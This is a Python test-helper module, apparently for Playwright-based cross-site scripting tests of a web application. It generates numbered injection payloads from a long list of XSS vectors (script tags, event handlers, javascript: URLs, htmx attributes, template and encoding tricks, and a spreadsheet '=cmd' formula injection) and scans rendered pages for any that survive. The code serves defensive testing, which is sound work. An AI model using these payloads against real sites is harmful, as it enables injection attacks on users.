"""Texts that try to run as a script, each with a name of its own, and the look for any that did.

An element of theirs carries `x-zq`, so that one that a page let through is found even where the
Content-Security-Policy kept it from running; htmx's attributes would run in spite of it.
"""

from collections.abc import Collection, Iterator
from dataclasses import dataclass, field
from typing import Any

from playwright.sync_api import Page

# What a careless template would be closed with first.
CLOSERS = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "}}", "</p></li>",
    "\\\">", "</option></select>", "&quot;&gt;", "*/", "`", "{% endverbatim %}",
)  # fmt: skip
# {0} is the name; called as a function that isn't there, it is an error that the browser tells.
VECTORS = (
    "<script x-zq>{0}()</script>", "<ScRiPt x-zq >{0}()</sCrIpT>",
    "<img x-zq src=x onerror={0}()>", "<svg x-zq onload={0}()>",
    "<svg><script x-zq>{0}()</script></svg>", "<body x-zq onload={0}()>",
    "<details x-zq open ontoggle={0}()><summary>a", "<input x-zq autofocus onfocus={0}()>",
    "<iframe x-zq srcdoc='<script>parent.{0}()</script>'>", "<iframe x-zq src=javascript:{0}()>",
    "<object x-zq data=javascript:{0}()>", "<embed x-zq src=javascript:{0}()>",
    "<a x-zq href=javascript:{0}()>open</a>", "<a x-zq href='java\tscript:{0}()'>open</a>",
    "[open](javascript:{0}())", "[open](<javascript:{0}()> 'x')", "![a](x\"onerror=\"{0}())",
    "<javascript:{0}()>", "<form x-zq action=javascript:{0}()><button>go",
    "<button x-zq formaction=javascript:{0}()>go", "<math><a x-zq xlink:href=javascript:{0}()>a",
    "<style x-zq>@import'//{0}.example.org';</style>",
    "<link x-zq rel=stylesheet href=//{0}.example.org>", "<base x-zq href=//{0}.example.org/>",
    "<meta x-zq http-equiv=refresh content='0;url=//{0}.example.org'>",
    "<div x-zq style='background:url(//{0}.example.org)'>a</div>",
    "<div x-zq hx-get=/healthz hx-trigger=load>{0}</div>",
    "<p x-zq hx-on:load='{0}()' hx-trigger='load[{0}()]'>a</p>",
    "<div x-zq hx-vals='js:a:{0}()' hx-post=/ hx-trigger=load></div>",
    "<script x-zq type=module>import'/static/{0}.js'</script>",
    "<script x-zq src=//{0}.example.org></script>",
    "<noscript><p title='</noscript><img x-zq src=x onerror={0}()>'>",
    "<svg><style><img x-zq src=x onerror={0}()></style></svg>",
    "<template x-zq><img src=x onerror={0}()>",
    "<math><mtext><table><mglyph><style><!--</style><img x-zq title='--&gt;<a onclick={0}()>'>",
    "<video x-zq><source onerror={0}()></video>", "<marquee x-zq onstart={0}()>a</marquee>",
    "&lt;img x-zq src=x onerror={0}()&gt;", "&#60;script&#62;{0}()&#60;/script&#62;",
    "\\u003cscript\\u003e{0}()\\u003c/script\\u003e", "%3Cscript%3E{0}()%3C/script%3E",
    "{{{{ {0} }}}}{{% debug %}}", "${{{0}()}}", "{{{{constructor.constructor('{0}()')()}}}}",
    "' onfocus={0}() autofocus x-zq='", '" onmouseover={0}() x-zq="', "`${{{0}()}}`",
    "';{0}();//", '";{0}();//', "</script><script x-zq>{0}()//",
    "<img x-zq name=getElementById id={0}>",
    "<!--[if gte IE 4]><script>{0}()</script><![endif]-->", "<xzq>{0}</xzq>",
    "<svg><animate x-zq onbegin={0}() attributeName=x dur=1s>",
    "<a x-zq href='data:text/html,{0}'>a</a>", "<scr\u0000ipt x-zq>{0}()</scr\u0000ipt>",
    "<img/x-zq/src=x/onerror={0}()>", "\u2028<img x-zq src=x onerror={0}()>",
    "\uff1cscript\uff1e{0}()\uff1c/script\uff1e",
    "<svg x-zq><use href='data:image/svg+xml,{0}#a'/></svg>",
    "<p x-zq id=main tabindex=1 onfocus={0}()>a", "=cmd|'/c {0}'!A0",
    "\u202e>{0}()=rorrenO x=crs gmi<",
)  # fmt: skip
LOOK = """() => {
  const ways = /^(href|src|action|formaction|data|xlink:href|poster)$/;
  const runs = (value) => /^(javascript|data|vbscript):/i.test(value.replace(/[\\s\\0]/g, ""));
  const leaves = (value) => new URL(value || "#", location.href).host !== location.host;
  const faults = [];
  for (const each of document.querySelectorAll("*")) {
    const told = [...each.attributes].map(({ name, value }) => [name.toLowerCase(), value]);
    if (each.localName.startsWith("xzq") || told.some(([name, value]) =>
      name === "x-zq" || name.startsWith("on") || name === "style" || name === "srcdoc" ||
      (name.startsWith("hx-") && /zq\\d+[a-z]+qz/.test(value)) ||
      (ways.test(name) && (runs(value) || (leaves(value) && each.localName !== "a")))
    )) faults.push(each.outerHTML.slice(0, 160));
  }
  const typed = [...document.querySelectorAll("input, textarea")].map(({ value }) => value);
  return { faults, text: [document.title, document.body.textContent, ...typed].join(" ") };
}"""


def name_of(number: int, where: str) -> str:
    return f"zq{number}{where}qz"


def payload(number: int, where: str, most: int = 2_000) -> str:
    """The payload of that number as it goes into a field; a short one where there is little room.

    A thousand numbers in a row are a thousand pairs of a closer and a vector.
    """
    turn, at = divmod(number, len(VECTORS))
    vector, closer = VECTORS[at], CLOSERS[(turn + at) % len(CLOSERS)]
    name = name_of(number, where)
    shapes = (closer + vector.format(name), f"{closer}<b x-zq>{name}", f"<b x-zq>{name}", name)
    return next(shape for shape in shapes if len(shape) <= most).replace("\0", "")


def packed(numbers: Collection[int], where: str, most: int, between: str = "\n\n") -> Iterator[str]:
    """All of these payloads, in as few texts of at most `most` characters as hold them."""
    held: list[str] = []
    for number in numbers:
        each = payload(number, where, most)
        if held and len(between.join([*held, each])) > most:
            yield between.join(held)
            held = []
        held.append(each)
    yield between.join(held)


@dataclass
class Watch:
    """What was seen on the pages, and what was wrong with them."""

    complaints: list[str]
    pages: int = 0
    faults: list[str] = field(default_factory=list)
    text: list[str] = field(default_factory=list)

    def look(self, page: Page) -> None:
        """Take in the page that is open now."""
        found: dict[str, Any] = page.evaluate(LOOK)
        self.pages += 1
        self.text.append(found["text"])
        self.faults += [f"{page.url}: {fault}" for fault in found["faults"]]
        self.faults += [f"{page.url}: {each}" for each in self.complaints]
        self.complaints.clear()

    def open(self, page: Page, *addresses: str) -> None:
        for address in addresses:
            answer = page.goto(address)
            if answer is None or answer.status >= 400:
                self.faults.append(f"{address}: {answer and answer.status}")
            self.look(page)

    def missing(self, numbers: Collection[int], *places: str) -> list[str]:
        """The payloads that no page showed: nothing was tried with them."""
        seen = " ".join(self.text)
        names = (name_of(number, where) for where in places for number in numbers)
        return [name for name in names if name not in seen]
